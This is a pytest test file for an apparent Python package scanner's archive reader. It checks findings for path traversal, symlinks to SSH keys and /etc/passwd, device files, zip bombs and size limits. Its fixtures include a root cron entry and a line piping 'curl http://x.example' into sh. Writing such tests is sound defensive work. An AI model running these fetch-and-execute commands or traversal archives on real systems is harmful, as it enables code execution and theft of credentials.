"""The archive reader: hostile and malformed archives give findings, never exceptions."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from pathlib import Path

import pytest

from pipvet.core.analysis.archive import (
    Limits,
    read_artifact,
    read_artifact_bytes,
    read_files,
    read_tree,
)
from pipvet.core.errors import InputError

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus" / "malicious"


def rules(artifact) -> set[str]:
    return {f.rule for f in artifact.archive_findings}


def make_tar(entries: list[tuple[tarfile.TarInfo, bytes | None]], mode: str = "w:gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:
        for info, data in entries:
            if data is not None:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
            else:
                tf.addfile(info)
    return buf.getvalue()


def reg(name: str) -> tarfile.TarInfo:
    return tarfile.TarInfo(name)


def special(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info


def zip_link(zf: zipfile.ZipFile, path: str, target: str) -> None:
    """A symbolic link member, as a Unix zip tool writes one (mode in the external attributes)."""
    link = zipfile.ZipInfo(path)
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    zf.writestr(link, target)


def make_zip(files: dict[str, bytes], **kw) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, **kw) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


SETUP = b"from setuptools import setup\nsetup(name='demo', version='1.0')\n"
PKG_INFO = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: a demo\n\nLong text\n"


def test_plain_sdist_reads_members_and_metadata():
    data = make_tar(
        [(reg("demo-1.0/setup.py"), SETUP), (reg("demo-1.0/PKG-INFO"), PKG_INFO)], "w:gz"
    )
    art = read_artifact_bytes(data, "demo-1.0.tar.gz")
    assert art.kind == "sdist"
    assert (art.name, art.version) == ("demo", "1.0")
    assert art.metadata["summary"] == ["a demo"]
    assert "Long text" in art.metadata["description"][0]
    assert {m.path for m in art.members} == {"demo-1.0/setup.py", "demo-1.0/PKG-INFO"}
    assert next(m for m in art.members if m.path.endswith("setup.py")).data == SETUP
    assert art.archive_findings == ()
    assert len(art.sha256) == 64


@pytest.mark.parametrize("mode,suffix", [("w:bz2", ".tar.bz2"), ("w:xz", ".tar.xz"), ("w", ".tar")])
def test_other_tar_compressions(mode, suffix):
    data = make_tar([(reg("demo-1.0/setup.py"), SETUP)], mode)
    art = read_artifact_bytes(data, "demo-1.0" + suffix)
    assert [m.data for m in art.members] == [SETUP]
    assert (art.name, art.version) == ("demo", "1.0")


def test_wheel_metadata_and_kind():
    data = make_zip(
        {
            "demo/__init__.py": b"x = 1\n",
            "demo-2.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: Demo\nVersion: 2.0\n",
            "demo-2.0.dist-info/WHEEL": b"Wheel-Version: 1.0\n",
        }
    )
    art = read_artifact_bytes(data, "misnamed-2.0.tar.gz")  # content decides, not the name
    assert art.kind == "wheel"
    assert (art.name, art.version) == ("Demo", "2.0")


def test_tar_traversal_absolute_links_and_devices():
    data = make_tar(
        [
            (reg("demo-1.0/../../evil.py"), b"print(1)\n"),
            (reg("/etc/cron.d/evil"), b"* * * * * root sh\n"),
            (special("demo-1.0/link", tarfile.SYMTYPE, "/home/user/.ssh/id_rsa"), None),
            (special("demo-1.0/inner", tarfile.SYMTYPE, "setup.py"), None),
            (special("demo-1.0/hard", tarfile.LNKTYPE, "../../etc/passwd"), None),
            (special("demo-1.0/dev", tarfile.CHRTYPE), None),
            (special("demo-1.0/fifo", tarfile.FIFOTYPE), None),
            (reg("demo-1.0/setup.py"), SETUP),
        ]
    )
    art = read_artifact_bytes(data, "demo-1.0.tar.gz")
    found = {(f.rule, f.path, f.severity) for f in art.archive_findings}
    assert ("archive.path-traversal", "demo-1.0/../../evil.py", "high") in found
    assert ("archive.absolute-path", "/etc/cron.d/evil", "high") in found
    assert ("archive.symlink", "demo-1.0/link", "high") in found
    assert ("archive.symlink", "demo-1.0/inner", "low") in found
    assert ("archive.hardlink", "demo-1.0/hard", "high") in found
    assert {p for r, p, _ in found if r == "archive.special-file"} == {
        "demo-1.0/dev",
        "demo-1.0/fifo",
    }
    # links and devices never become members; regular files (even hostile names) are read as data
    paths = {m.path for m in art.members}
    assert "demo-1.0/link" not in paths and "demo-1.0/dev" not in paths
    assert "demo-1.0/setup.py" in paths and "demo-1.0/../../evil.py" in paths


def test_zip_symlink_traversal_and_duplicates():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zip_link(zf, "pkg/link", "../../../../root/.bashrc")
        zf.writestr("..\\..\\win.py", b"x=1\n")
        zf.writestr("C:/Windows/evil.bat", b"echo\n")
        zf.writestr("pkg/a.py", b"a = 1\n")
        with pytest.warns(UserWarning):
            zf.writestr("pkg/a.py", b"a = 2\n")
    art = read_artifact_bytes(buf.getvalue(), "demo-1.0.zip")
    r = rules(art)
    assert {"archive.symlink", "archive.path-traversal", "archive.absolute-path"} <= r
    assert "archive.duplicate-name" in r
    assert [m.data for m in art.members if m.path == "pkg/a.py"] == [b"a = 1\n", b"a = 2\n"]
    assert "pkg/link" not in {m.path for m in art.members}


def test_encrypted_zip_member_is_reported():
    data = bytearray(make_zip({"pkg/secret.py": b"print('x')\n"}))
    # set the "encrypted" flag bit in both the local header and the central directory
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(sig)
        off = at + (6 if sig == b"PK\x03\x04" else 8)
        data[off] |= 0x1
    art = read_artifact_bytes(bytes(data), "demo-1.0.zip")
    assert "archive.encrypted" in rules(art)
    assert not art.members


def test_zip_bomb_high_ratio():
    limits = Limits(ratio_min_size=1024 * 1024, max_ratio=50)
    data = make_zip({"pkg/zeros.bin": b"\0" * (20 * 1024 * 1024)})
    assert len(data) < 100_000
    art = read_artifact_bytes(data, "bomb-1.0.zip", limits=limits)
    assert "archive.zip-bomb" in rules(art)
    assert all(len(m.data) <= limits.prefix_size for m in art.members)


def test_tar_bomb_stops_before_decompressing():
    limits = Limits(ratio_min_size=1024 * 1024, max_ratio=50)
    data = make_tar([(reg("b-1.0/zeros.dat"), b"\0" * (20 * 1024 * 1024))])
    art = read_artifact_bytes(data, "b-1.0.tar.gz", limits=limits)
    assert "archive.zip-bomb" in rules(art)
    assert not art.members


def test_too_many_members_and_huge_member():
    files = {f"pkg/m{i}.py": b"x = 1\n" for i in range(30)}
    art = read_artifact_bytes(make_zip(files), "many-1.0.zip", limits=Limits(max_members=10))
    assert "archive.limit-members" in rules(art)
    assert len(art.members) == 10

    big = b"#" * 200_000
    art = read_artifact_bytes(
        make_zip({"pkg/big.py": big}), "big-1.0.zip", limits=Limits(max_member_size=100_000)
    )
    assert "archive.limit-member-size" in rules(art)
    (m,) = art.members
    assert m.truncated and len(m.data) == 4096 and m.size == 200_000


def test_total_size_limit():
    files = {f"pkg/m{i}.txt": b"y" * 50_000 for i in range(10)}
    art = read_artifact_bytes(
        make_tar([(reg(n), d) for n, d in files.items()]),
        "t-1.tar.gz",
        limits=Limits(max_total_size=120_000),
    )
    assert "archive.limit-total-size" in rules(art)
    assert len(art.members) == 2


def test_truncated_gzip_and_not_an_archive():
    data = make_tar([(reg(f"t-1.0/m{i}.py"), b"x = %d\n" % i * 2000) for i in range(20)])
    art = read_artifact_bytes(data[: len(data) // 2], "t-1.0.tar.gz")
    assert "archive.truncated" in rules(art)

    art = read_artifact_bytes(b"this is not an archive at all", "x-1.0.tar.gz")
    assert rules(art) & {"archive.malformed", "archive.truncated"}
    assert art.members == ()

    art = read_artifact_bytes(gzip.compress(b"plain gzip, no tar inside" * 40), "y-1.0.tar.gz")
    assert rules(art) & {"archive.malformed", "archive.truncated"}

    art = read_artifact_bytes(b"PK\x03\x04garbage" * 10, "z-1.0.whl")
    assert "archive.malformed" in rules(art)


def test_binary_keeps_prefix_only_and_source_keeps_all():
    elf = b"\x7fELF" + bytes(range(256)) * 100
    py = b"# " + b"a" * 50_000 + b"\n"
    art = read_artifact_bytes(make_zip({"pkg/x.so": elf, "pkg/y.py": py}), "d-1.0.zip")
    by = {m.path: m for m in art.members}
    assert by["pkg/x.so"].truncated and by["pkg/x.so"].data == elf[:4096]
    assert by["pkg/x.so"].size == len(elf)
    assert not by["pkg/y.py"].truncated and by["pkg/y.py"].data == py


def test_nested_archive_is_read_with_prefixed_paths():
    inner = make_zip({"payload/run.py": b"import os\n"})
    outer = make_tar([(reg("n-1.0/setup.py"), SETUP), (reg("n-1.0/data/blob.zip"), inner)])
    art = read_artifact_bytes(outer, "n-1.0.tar.gz")
    assert "n-1.0/data/blob.zip!/payload/run.py" in {m.path for m in art.members}


def test_loose_file_and_read_artifact_from_disk(tmp_path):
    f = tmp_path / "loose.py"
    f.write_bytes(b"print('hi')\n")
    art = read_artifact(f)
    assert art.kind == "file" and art.members[0].data == b"print('hi')\n"
    with pytest.raises(InputError):
        read_artifact(tmp_path / "missing.whl")


def test_read_tree_never_follows_links_out(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.py").write_text("SECRET = 1\n")
    tree = tmp_path / "demo-1.0"
    (tree / "demo").mkdir(parents=True)
    (tree / "setup.py").write_bytes(SETUP)
    (tree / "PKG-INFO").write_bytes(PKG_INFO)
    (tree / "demo" / "__init__.py").write_text("x = 1\n")
    (tree / "demo" / "esc.py").symlink_to(outside / "secret.py")
    (tree / "demo" / "escdir").symlink_to(outside, target_is_directory=True)
    (tree / ".git").mkdir()
    (tree / ".git" / "HEAD").write_text("ref\n")
    import os

    os.mkfifo(tree / "pipe")
    art = read_tree(tree)
    paths = {m.path for m in art.members}
    assert paths == {"setup.py", "PKG-INFO", "demo/__init__.py"}
    found = {(f.rule, f.path, f.severity) for f in art.archive_findings}
    assert ("archive.symlink", "demo/esc.py", "high") in found
    assert ("archive.symlink", "demo/escdir", "high") in found
    assert ("archive.special-file", "pipe", "high") in found
    assert art.kind == "tree" and (art.name, art.version) == ("demo", "1.0")


def test_read_files_refuses_paths_outside_the_fence(tmp_path):
    (tmp_path / "site" / "pkg").mkdir(parents=True)
    (tmp_path / "site" / "pkg" / "m.py").write_text("m = 1\n")
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "tool").write_text("#!/bin/sh\n")
    art = read_files(
        tmp_path / "site", ["pkg/m.py", "../bin/tool", "../../etc/passwd"], filename="pkg"
    )
    assert {m.path for m in art.members} == {"pkg/m.py"}
    art = read_files(
        tmp_path / "site", ["pkg/m.py", "../bin/tool"], filename="pkg", allowed_root=tmp_path
    )
    assert {m.path for m in art.members} == {"pkg/m.py", "../bin/tool"}


def _corpus_sample(n: int) -> list[Path]:
    files = sorted(p for p in CORPUS.rglob("*") if p.is_file())
    step = max(1, len(files) // n)
    return files[::step][:n]


@pytest.mark.skipif(not CORPUS.is_dir(), reason="shared corpus not present")
def test_real_malicious_samples_read_as_bytes_without_error():
    sample = _corpus_sample(60)
    wheels = sorted(CORPUS.rglob("*.whl"))[:5]
    with_py = 0
    for path in sample + wheels:
        art = read_artifact_bytes(path.read_bytes(), path.name)  # bytes only, never unpacked
        assert art.sha256 and art.kind in {"sdist", "wheel", "zip", "file"}
        if art.kind in ("sdist", "wheel"):
            assert art.members and art.name, path
            with_py += any(m.path.endswith(".py") and m.data for m in art.members)
    assert with_py >= len(sample) * 0.8
    assert sum(1 for p in wheels if read_artifact(p).kind == "wheel") == len(wheels)


def test_nested_archive_ratio_is_its_own_not_the_parents():
    import os

    limits = Limits(ratio_min_size=1024 * 1024, max_ratio=50)
    inner = make_zip({"x/y.py": b"y = 2\n"})
    outer = make_tar(
        [(reg("n-1.0/blob.bin"), os.urandom(2 * 1024 * 1024)), (reg("n-1.0/t/inner.zip"), inner)]
    )
    art = read_artifact_bytes(outer, "n-1.0.tar.gz", limits=limits)
    assert "archive.zip-bomb" not in rules(art)
    assert "n-1.0/t/inner.zip!/x/y.py" in {m.path for m in art.members}


def test_broken_nested_archive_is_a_low_note():
    outer = make_tar([(reg("n-1.0/setup.py"), SETUP), (reg("n-1.0/data/fake.tar.gz"), b"nope")])
    art = read_artifact_bytes(outer, "n-1.0.tar.gz")
    (f,) = art.archive_findings
    assert f.severity == "low" and f.path == "n-1.0/data/fake.tar.gz"


def test_headers_and_data_tables_have_their_own_budget_the_python_is_read_whole():
    # thousands of compile inputs first (C headers: text, but never run), then the package's code
    headers = {f"pkg/include/h{i}.h": b"#define X%d 1\n" % i * 400 for i in range(40)}
    code = b"import os\n" + b"X = 1\n" * 3000 + b"os.system('curl http://x.example | sh')\n"
    limits = Limits(max_kept_total=60_000, max_data_text_kept=50_000)
    art = read_artifact_bytes(
        make_zip({**headers, "pkg/zz_last.py": code}), "pkg-1.0.zip", limits=limits
    )
    last = next(m for m in art.members if m.path.endswith("zz_last.py"))
    assert not last.truncated and last.data == code
    partly = [m for m in art.members if m.path.endswith(".h") and m.truncated]
    assert partly  # the headers past their budget keep a prefix, and that is said (low)
    [said] = [f for f in art.archive_findings if f.rule == "archive.limit-kept-size"]
    assert said.severity == "low" and "not Python or scripts" in said.message


def test_javascript_draws_on_the_data_budget_and_cannot_crowd_out_the_python():
    """cdktf providers: a jsii package of 300 MB of JavaScript, then a module: the JavaScript
    past the budget keeps a prefix (said, low), and the Python after it is read whole."""
    bundle = {f"pkg/lib/m{i}/index.js": b"exports.x = 1;\n" * 400 for i in range(40)}
    code = b"X = 1\n" * 3000 + b"import os\nos.system('curl http://x.example | sh')\n"
    limits = Limits(max_kept_total=60_000, max_data_text_kept=50_000)
    art = read_artifact_bytes(
        make_zip({**bundle, "pkg/zz_last.py": code}), "pkg-1.0.zip", limits=limits
    )
    last = next(m for m in art.members if m.path.endswith("zz_last.py"))
    assert not last.truncated and last.data == code
    assert any(m.truncated for m in art.members if m.path.endswith(".js"))
    [said] = [f for f in art.archive_findings if f.rule == "archive.limit-kept-size"]
    assert said.severity == "low"
    sh = {f"pkg/tools/s{i}.sh": b"echo x\n" * 1000 for i in range(40)}  # scripts: code's budget
    art = read_artifact_bytes(make_zip({**sh, "pkg/zz_last.py": code}), "p-1.0.zip", limits=limits)
    assert next(m for m in art.members if m.path.endswith("zz_last.py")).truncated


def test_a_generated_module_of_21_mb_is_kept_whole_and_a_larger_one_is_cut():
    """pydo: its generated ``_operations.py`` is 21.5 MB, read whole (the engine splits it into
    parts); one over the reader's 32 MiB per-file bound keeps its head and is said."""

    def lines(n: int) -> bytes:  # numbered: text that compresses as code does, not as a bomb
        return b"".join(
            b"    def op%d(self): return self._send(%d)\n" % (i, i * 7) for i in range(n)
        )

    big = b"class Operations:\n" + lines(520_000)
    assert 21_000_000 < len(big) < 32 * 1024**2
    art = read_artifact_bytes(make_zip({"pkg/_operations.py": big}), "pkg-1.0-py3-none-any.whl")
    [member] = [m for m in art.members if m.path.endswith("_operations.py")]
    assert not member.truncated and len(member.data) == len(big)
    huge = b"class Operations:\n" + lines(850_000)
    art = read_artifact_bytes(make_zip({"pkg/_operations.py": huge}), "pkg-1.0-py3-none-any.whl")
    [member] = [m for m in art.members if m.path.endswith("_operations.py")]
    assert member.truncated and len(member.data) < len(huge)


def test_python_past_the_code_budget_is_still_only_partly_read_and_said():
    code = b"X = 1\n" * 3000  # 18 kB each
    files = {f"pkg/m{i}.py": code for i in range(5)}
    art = read_artifact_bytes(make_zip(files), "pkg-1.0.zip", limits=Limits(max_kept_total=40_000))
    assert any(m.truncated for m in art.members)
    [said] = [f for f in art.archive_findings if f.rule == "archive.limit-kept-size"]
    assert said.severity == "medium"


# -- a monorepo's shared file linked from just outside the sdist --------------------------------


def _linked(target: str, *after: str) -> dict[str, str]:
    entries = [(special("demo-1.0/LICENSE", tarfile.SYMTYPE, target), None)]
    entries += [(reg(p), b"x = 1\n") for p in after]
    entries.append((reg("demo-1.0/setup.py"), SETUP))
    art = read_artifact_bytes(make_tar(entries), "demo-1.0.tar.gz")
    return {f.path: f.severity for f in art.archive_findings if f.rule == "archive.symlink"}


def test_a_link_to_one_file_just_outside_the_sdist_is_worth_a_look_not_a_block():
    assert _linked("../../LICENSE") == {"demo-1.0/LICENSE": "medium"}
    assert _linked("../../../LICENSE") == {"demo-1.0/LICENSE": "medium"}


@pytest.mark.parametrize(
    "target",
    [
        "../../../../root/.bashrc",  # climbs to the root and goes down to a known file
        "../../home/user/.ssh/authorized_keys",  # goes down into folders out there
        "../../..",  # a folder out there, which can take writes
        "/home/user/.ssh/id_rsa",  # absolute
    ],
)
def test_a_link_that_aims_at_a_place_on_the_machine_still_blocks(target):
    assert _linked(target) == {"demo-1.0/LICENSE": "high"}


def test_a_near_link_that_a_later_member_is_written_through_still_blocks():
    assert _linked("../../LICENSE", "demo-1.0/LICENSE/evil.py") == {"demo-1.0/LICENSE": "high"}
    # a member before the link is not written through it
    entries = [(reg("demo-1.0/LICENSE.txt"), b"MIT\n")]
    entries += [(special("demo-1.0/LICENSE", tarfile.SYMTYPE, "../../LICENSE"), None)]
    art = read_artifact_bytes(make_tar(entries), "demo-1.0.tar.gz")
    assert {f.severity for f in art.archive_findings if f.rule == "archive.symlink"} == {"medium"}


def test_a_zip_link_written_through_still_blocks():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zip_link(zf, "pkg/LICENSE", "../../LICENSE")
        zf.writestr("pkg/LICENSE/x.py", b"x = 1\n")
    art = read_artifact_bytes(buf.getvalue(), "demo-1.0.zip")
    [link] = [f for f in art.archive_findings if f.rule == "archive.symlink"]
    assert link.severity == "high" and "written through it" in link.message
